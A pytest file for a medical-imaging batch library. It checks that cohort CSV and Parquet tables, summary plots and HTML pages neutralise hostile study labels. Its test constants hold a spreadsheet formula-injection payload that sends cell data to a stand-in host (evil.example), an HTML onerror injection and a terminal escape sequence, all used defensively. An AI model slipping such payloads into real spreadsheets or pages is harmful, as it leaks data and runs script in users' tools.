"""Tables and summary of a cohort, where names are what somebody else thought up."""

from __future__ import annotations

import csv
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pyarrow import parquet

from IODeepLib.batch.page import page
from IODeepLib.batch.plots import picture
from IODeepLib.batch.summary import Sample, summary_of
from IODeepLib.batch.tables import COLUMNS, write_tables
from IODeepLib.batch.terms import Outcome, Run, StudyRecord, Trouble

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
MARKUP = "<img src=x onerror=alert(1)>$\\frac{\x1b[2J"


def hostile(study: str, label: str, volume: float = 2.5) -> StudyRecord:
    measured = ((label, "volume", volume, "mL"), (label, "mean", -7.0, "=HU"))
    run = Run("1.2.3", label, f"{label}@1", "2.25.7", "run-1", 1.0, measured)
    trouble = Trouble("ImageError", "of Secret^Name", label)
    return StudyRecord(study, "", Outcome.FAILED, "2026-01-01", 3.0, (run,), (trouble,))


def test_no_cell_is_computed(tmp_path: Path) -> None:
    records = [hostile("1.2", FORMULA), hostile("1.3", "+1"), hostile("1.4", 'a\r\nb,"c"')]
    write_tables(records, tmp_path)
    with (tmp_path / "measurements.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, strict=True))
    assert rows[0] == [*COLUMNS]
    assert len(rows) == 7
    texts = [value for row in rows[1:] for i, value in enumerate(row) if COLUMNS[i] != "value"]
    assert not [value for value in texts if value.startswith(("=", "+", "-", "@"))]
    assert rows[1][4] == "'" + FORMULA
    table = parquet.read_table(tmp_path / "measurements.parquet").to_pylist()
    assert [row["label"] for row in table[::2]] == [FORMULA, "+1", 'a b,"c"']  # nothing computes
    assert [float(row[6]) for row in rows[1:]] == [row["value"] for row in table]


def test_a_cohort_without_results_has_empty_tables(tmp_path: Path) -> None:
    write_tables([], tmp_path)
    assert parquet.read_table(tmp_path / "measurements.parquet").column_names == [*COLUMNS]
    assert (tmp_path / "measurements.csv").read_text().strip() == ",".join(COLUMNS)
    assert picture(summary_of([])).startswith(b"\x89PNG")


def test_more_rows_than_are_held(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("IODeepLib.batch.tables._AT_ONCE", 3)
    write_tables((hostile(f"1.{i}", "Liver", i) for i in range(10)), tmp_path)
    table = parquet.read_table(tmp_path / "measurements.parquet")
    assert table.num_rows == 20
    assert table.column("value").to_pylist()[::2] == list(range(10))


class Tags(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_no_name_is_markup_or_a_formula_of_a_plot() -> None:
    summary = summary_of([hostile("1.2", MARKUP), hostile("1.3", "x" * 10_000)])
    drawn = picture(summary)
    assert drawn.startswith(b"\x89PNG")
    text = page(summary, drawn)
    seen = Tags(text)
    assert seen.tags.count("img") == 1
    assert "script" not in seen.tags
    assert "onerror" in "".join(seen.texts)
    assert "Content-Security-Policy" in text
    assert "\x1b" not in text and "\x1b" not in "\n".join(summary.lines())
    assert "Secret" not in text
    assert len(text) - len(drawn) * 4 // 3 < 50_000


def test_a_sample_is_of_all_and_no_larger(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("IODeepLib.batch.summary._SAMPLE", 100)
    sample = Sample()
    for value in range(10_000):
        sample.add(value)
    assert (sample.count, len(sample.kept), sample.total) == (10_000, 100, sum(range(10_000)))
    assert 3000 < sample.median < 7000  # the same ones every time


def test_failures_are_grouped_by_reason() -> None:
    records = [hostile(f"1.{i}", "no image") for i in range(30)] + [hostile("2.1", "no memory")]
    summary = summary_of(records)
    (words, group), (_, other) = summary.failures
    assert (words, group.count, group.examples) == ("no image", 30, ["1.0", "1.1", "1.2"])
    assert other.count == 1
    assert "  30 x no image (such as 1.0)" in [*summary.lines()]
